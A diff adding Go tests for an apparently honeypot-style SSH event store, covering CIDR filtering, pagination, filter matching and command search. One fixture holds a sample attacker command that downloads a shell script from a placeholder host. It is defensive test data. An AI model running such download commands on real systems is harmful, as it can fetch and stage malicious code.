@@ -0,0 +1,169 @@
+package types
+
+import (
+	"context"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func TestQueryEventsCIDR(t *testing.T) {
+	cases := []struct {
+		name string
+		// the source IPs from the oldest to the latest
+		ips     []string
+		cidr    string
+		limit   int
+		matched []string
+		pages   int
+	}{
+		{name: "all", ips: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3"}, cidr: "192.0.2.0/24", limit: 2, matched: []string{"192.0.2.3", "192.0.2.2", "192.0.2.1"}, pages: 2},
+		{name: "exact pages", ips: []string{"192.0.2.1", "192.0.2.2"}, cidr: "192.0.2.0/24", limit: 2, matched: []string{"192.0.2.2", "192.0.2.1"}, pages: 2},
+		// the last batch of 2 events fills the page by its first event
+		{name: "last batch", ips: []string{"192.0.2.4", "192.0.2.3", "192.0.2.2", "192.0.2.1", "198.51.100.1"}, cidr: "192.0.2.0/24", limit: 3, matched: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4"}, pages: 2},
+		{name: "sparse", ips: []string{"192.0.2.1", "198.51.100.1", "198.51.100.2", "192.0.2.2", "198.51.100.3", "198.51.100.4", "198.51.100.5"}, cidr: "192.0.2.0/24", limit: 2, matched: []string{"192.0.2.2", "192.0.2.1"}, pages: 1},
+		{name: "ipv6", ips: []string{"2001:db8::1", "192.0.2.1", "2001:db8:1::1"}, cidr: "2001:db8::/48", limit: 1, matched: []string{"2001:db8::1"}, pages: 1},
+		{name: "none", ips: []string{"198.51.100.1", "198.51.100.2"}, cidr: "192.0.2.0/24", limit: 1, pages: 1},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			reset(t)
+			ctx := context.Background()
+			now := time.Now().UTC()
+
+			var events []*Event
+			for index, ip := range c.ips {
+				events = append(events, &Event{CreatedAt: now.Add(time.Duration(index) * time.Second), Type: EventConnect, Protocol: "ssh", SrcIP: ip})
+			}
+			if err := InsertEvents(ctx, events); err != nil {
+				t.Fatalf("failed to insert the events: %v", err)
+			}
+
+			var matched []string
+			filter := EventFilter{ClientIP: c.cidr, Limit: c.limit}
+			for pages := 1; ; pages++ {
+				page, err := QueryEvents(ctx, filter)
+				if err != nil {
+					t.Fatalf("failed to query the events: %v", err)
+				}
+
+				for _, event := range page.Events {
+					matched = append(matched, event.SrcIP)
+				}
+
+				if page.NextCursor == 0 {
+					if pages > c.pages+1 {
+						t.Errorf("expect at most %d pages, got %d", c.pages+1, pages)
+					}
+					break
+				}
+
+				filter.Cursor = page.NextCursor
+			}
+
+			if !reflect.DeepEqual(matched, c.matched) {
+				t.Errorf("expect %q, got %q", c.matched, matched)
+			}
+		})
+	}
+}
+
+func TestQueryEventsInvalidCIDR(t *testing.T) {
+	if _, err := QueryEvents(context.Background(), EventFilter{ClientIP: "192.0.2.0/33"}); err == nil {
+		t.Errorf("expect the invalid CIDR rejected")
+	}
+}
+
+func TestEventFilterMatch(t *testing.T) {
+	command := "wget http://example.com/x.sh"
+	event := &Event{CreatedAt: time.Date(2024, 1, 2, 0, 0, 0, 0, time.UTC), Type: EventCommand, Protocol: "ssh", SrcIP: "192.0.2.1", Command: &command}
+
+	cases := []struct {
+		name   string
+		filter EventFilter
+		match  bool
+	}{
+		{name: "empty", filter: EventFilter{}, match: true},
+		{name: "type", filter: EventFilter{Type: EventConnect}, match: false},
+		{name: "command", filter: EventFilter{Command: "example.com"}, match: true},
+		{name: "ip", filter: EventFilter{ClientIP: "192.0.2.1"}, match: true},
+		{name: "cidr", filter: EventFilter{ClientIP: "192.0.2.0/31"}, match: true},
+		{name: "other cidr", filter: EventFilter{ClientIP: "192.0.2.2/31"}, match: false},
+		{name: "since", filter: EventFilter{Since: event.CreatedAt}, match: true},
+		{name: "until", filter: EventFilter{Until: event.CreatedAt}, match: false},
+		{name: "username", filter: EventFilter{Username: "root"}, match: false},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if match := c.filter.Match(event); match != c.match {
+				t.Errorf("expect %v, got %v", c.match, match)
+			}
+		})
+	}
+}
+
+func TestQueryEventsCommand(t *testing.T) {
+	reset(t)
+	ctx := context.Background()
+
+	var events []*Event
+	commands := []string{"Echo ABC", "echo abc", "echo 100%", "a_b", "ünicode Ü", "echo a!b"}
+	for _, command := range commands {
+		events = append(events, &Event{Type: EventCommand, Protocol: "ssh", SrcIP: "192.0.2.1", Command: &command})
+	}
+	if err := InsertEvents(ctx, events); err != nil {
+		t.Fatalf("failed to insert the events: %v", err)
+	}
+
+	cases := []struct {
+		command string
+		matched []string
+	}{
+		{command: "abc", matched: []string{"echo abc"}},
+		{command: "ABC", matched: []string{"Echo ABC"}},
+		{command: "ECHO"},
+		{command: "echo", matched: []string{"echo a!b", "echo 100%", "echo abc"}},
+		// the wildcards of the LIKE are the plain characters
+		{command: "%", matched: []string{"echo 100%"}},
+		{command: "_", matched: []string{"a_b"}},
+		{command: "!", matched: []string{"echo a!b"}},
+		{command: "ü", matched: []string{"ünicode Ü"}},
+		{command: "Ü", matched: []string{"ünicode Ü"}},
+		{command: "ÜNICODE"},
+	}
+
+	for _, c := range cases {
+		t.Run(c.command, func(t *testing.T) {
+			filter := EventFilter{Command: c.command}
+			page, err := QueryEvents(ctx, filter)
+			if err != nil {
+				t.Fatalf("failed to query the events: %v", err)
+			}
+
+			var matched []string
+			for _, event := range page.Events {
+				matched = append(matched, deref(event.Command))
+				if !filter.Match(event) {
+					t.Errorf("expect the queried %q matched by the filter", deref(event.Command))
+				}
+			}
+
+			if !reflect.DeepEqual(matched, c.matched) {
+				t.Errorf("expect %q, got %q", c.matched, matched)
+			}
+
+			// the stream matches the same events as the query
+			var streamed []string
+			for index := len(events) - 1; index >= 0; index-- {
+				if filter.Match(events[index]) {
+					streamed = append(streamed, deref(events[index].Command))
+				}
+			}
+			if !reflect.DeepEqual(streamed, c.matched) {
+				t.Errorf("expect the stream %q, got %q", c.matched, streamed)
+			}
+		})
+	}
+}